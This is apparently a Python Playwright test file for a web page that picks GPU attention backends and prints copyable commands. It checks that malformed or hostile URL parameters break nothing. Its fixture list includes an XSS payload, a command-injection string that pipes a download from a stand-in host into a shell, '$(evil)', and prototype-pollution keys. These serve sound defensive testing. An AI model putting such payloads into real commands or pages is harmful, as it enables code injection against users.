"""Addresses that nobody made with the picker: old, mistyped, hostile. None breaks the page, each is
told or understood, and nothing of one reaches a command that people copy."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any
from urllib.parse import urlencode

import pytest

import attnmatrix

pytestmark = pytest.mark.browser

FIELDS = (
    "gpu", "model", "tensor_parallel", "kv_cache_dtype", "dtype", "block_size", "mla", "sparse",
    "sink", "head_size", "query_heads", "topk", "phase", "context", "library.vllm", "library.x",
    "feature.lse", "feature.x", "backend", "command", "__proto__",
)  # fmt: skip
VALUES = (
    "constructor", "__proto__", "toString", "<img src=x onerror=alert(1)>", "2;curl evil|sh",
    "$(evil)", "-1", "0", "1.5", "1e400", "0x8", "9" * 30, " ", "\x00", "\u202e\U0001f4a9",
    "a" * 3000,
)  # fmt: skip


@pytest.fixture
def visit(page: Any) -> Callable[..., str]:
    """Goes to an address of the picker, as back and forward do; returns what is told."""
    page.goto("")
    page.wait_for_selector("#picker .picker-status")

    def go(**chosen: str) -> str:
        page.evaluate(
            """(query) => {
              history.replaceState(null, "", "?" + query);
              dispatchEvent(new PopStateEvent("popstate"));
            }""",
            urlencode({name.replace("__", ".", 1): text for name, text in chosen.items()}),
        )
        return str(page.text_content("#picker .picker-status"))

    return go


def checked(page: Any, field: str) -> str:
    return str(page.locator(f"#picker input[name={field}]:checked").input_value())


def commands(page: Any) -> list[str]:
    return list(page.locator(".picker-selected pre").all_inner_texts())


_VISIT_ALL = """(queries) => queries.map((query) => {
  history.replaceState(null, "", "?" + query);
  dispatchEvent(new PopStateEvent("popstate"));
  const commands = [...document.querySelectorAll(".picker-selected pre")].map((e) => e.innerText);
  return [document.querySelector(".picker-status").textContent, commands.join("\\n")];
})"""


def test_no_address_breaks_the_page_or_reaches_a_command(page: Any, visit: Any) -> None:
    plain = {"gpu": "H200", "model": "DeepSeek-V3"}
    assert visit(**plain) == "Selected: FLASH_ATTN_MLA"
    command = "\n".join(commands(page))
    hostile = [{**plain, field: value} for field in FIELDS for value in VALUES]
    answers = page.evaluate(_VISIT_ALL, [urlencode(chosen) for chosen in hostile])
    for chosen, (told, typed) in zip(hostile, answers, strict=True):
        assert told, chosen
        assert typed in ("", command), chosen
        assert bool(typed) == told.startswith("Selected: "), chosen
    assert page.locator("#picker img").count() == 0


@pytest.mark.parametrize(
    ("chosen", "fields"),
    [
        ({"gpu": "H2000"}, {"gpu": "H2000"}),
        ({"model": "DeepSeek-V33"}, {"model": "DeepSeek-V33"}),
        (
            {"model": "DeepSeek-V3", "tensor_parallel": "3"},
            {"model": "DeepSeek-V3", "tensor_parallel": 3},
        ),
        ({"block_size": "0"}, {"block_size": "0"}),
        ({"dtype": "bfloat 16"}, {"dtype": "bfloat 16"}),
        ({"phase": "decod"}, {"phase": "decod"}),
        ({"feature__lese": "yes"}, {"features": ["lese"]}),
        ({"library__vllm": "0.33.x"}, {"libraries": {"vllm": "0.33.x"}}),
        ({"library__vlm": "0.33.0"}, {"libraries": {"vlm": "0.33.0"}}),
    ],
)
def test_what_cannot_be_read_is_told_in_the_runtimes_words(
    page: Any, visit: Any, chosen: dict[str, str], fields: dict[str, Any]
) -> None:
    told = visit(**chosen)
    with pytest.raises(attnmatrix.RequestError) as refused:
        attnmatrix.Request(**fields)
    fault = str(refused.value).partition(": ")[2]
    assert fault.partition("; ")[0] in told
    (item,) = page.locator("#picker [data-fault]").all()
    item.get_by_role("button", name="Leave out").click()
    assert page.locator("#picker [data-fault]").count() == 0
    assert page.evaluate("document.activeElement.className") == "picker-result"


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ({"gpu": "h200"}, {"gpu": "H200"}),
        ({"gpu": "NVIDIA H100 80GB HBM3"}, {"gpu": "H100"}),
        ({"gpu": "sm_90a"}, {"gpu": "9.0"}),
        ({"compute_capability": "9.0"}, {"gpu": "9.0"}),
        ({"gpu": "CPU"}, {"gpu": "none"}),
        ({"model": "deepseek-ai/deepseek-r1"}, {"model": "DeepSeek-V3"}),
        ({"GPU": "H200", "Block_Size": "064"}, {"gpu": "H200", "block_size": "64"}),
        ({"dtype": "BF16"}, {"dtype": "bfloat16"}),
    ],
)
def test_other_spellings_are_understood(
    page: Any, visit: Any, typed: dict[str, str], meant: dict[str, str]
) -> None:
    visit(**typed)
    for field, value in meant.items():
        assert checked(page, field) == value
    seen = page.inner_text(".picker-answer")
    visit(**meant)
    assert page.inner_text(".picker-answer") == seen


@pytest.mark.parametrize(
    ("field", "value"),
    [("block_size", "96"), ("gpu", "10.1"), ("tensor_parallel", "64"), ("kv_cache_dtype", "fp9")],
)
def test_a_choice_off_the_list_is_shown(page: Any, visit: Any, field: str, value: str) -> None:
    visit(**{"model": "DeepSeek-V3", field: value})
    option = page.locator(f"#picker input[name={field}]:checked")
    assert option.input_value() == value
    assert page.locator(f"label[for='{option.get_attribute('id')}']").is_visible()
    visit(model="DeepSeek-V3")
    assert checked(page, field) in ("", "auto")
    assert page.get_by_text("not in the list").locator("visible=true").count() == 0


@pytest.mark.parametrize("context", ["-5", "1.5", "abc", "1e400", "9" * 12])
def test_a_context_length_that_is_none_is_told(page: Any, visit: Any, context: str) -> None:
    assert visit(gpu="H200", model="DeepSeek-V3", context=context) == "Selected: FLASH_ATTN_MLA"
    memory = page.inner_text(".picker-memory")
    assert context in memory
    assert "GiB" not in memory


def test_a_context_longer_than_the_models_is_told(page: Any, visit: Any) -> None:
    visit(gpu="H200", model="DeepSeek-V3", context="163840")
    assert "at most" not in page.inner_text(".picker-memory")
    visit(gpu="H200", model="DeepSeek-V3", context="163841")
    assert "made for 163,840 tokens at most" in page.inner_text(".picker-memory")


def test_the_context_keeps_the_focus(page: Any, visit: Any) -> None:
    visit(gpu="H200", model="DeepSeek-V3")
    page.fill("#picker-context", "1000")
    page.keyboard.press("Enter")
    assert "1,000 tokens" in page.inner_text(".picker-memory")
    assert page.evaluate("document.activeElement.id") == "picker-context"
    page.fill("#picker-context", "2000")
    page.keyboard.press("Tab")
    after = page.evaluate(
        "document.getElementById('picker-context').compareDocumentPosition(document.activeElement)"
    )
    assert after == 4  # it follows, in the answer that was there
    assert page.evaluate("document.activeElement.closest('.picker-answer') !== null")


def test_marks_of_mailing_lists_are_left_out(page: Any, visit: Any) -> None:
    visit(utm_source="news", fbclid="x", gpu="H200")
    page.locator("#picker input[name=model][value=DeepSeek-V3]").check()
    assert re.search(r"/\?gpu=H200&model=DeepSeek-V3$", page.url)
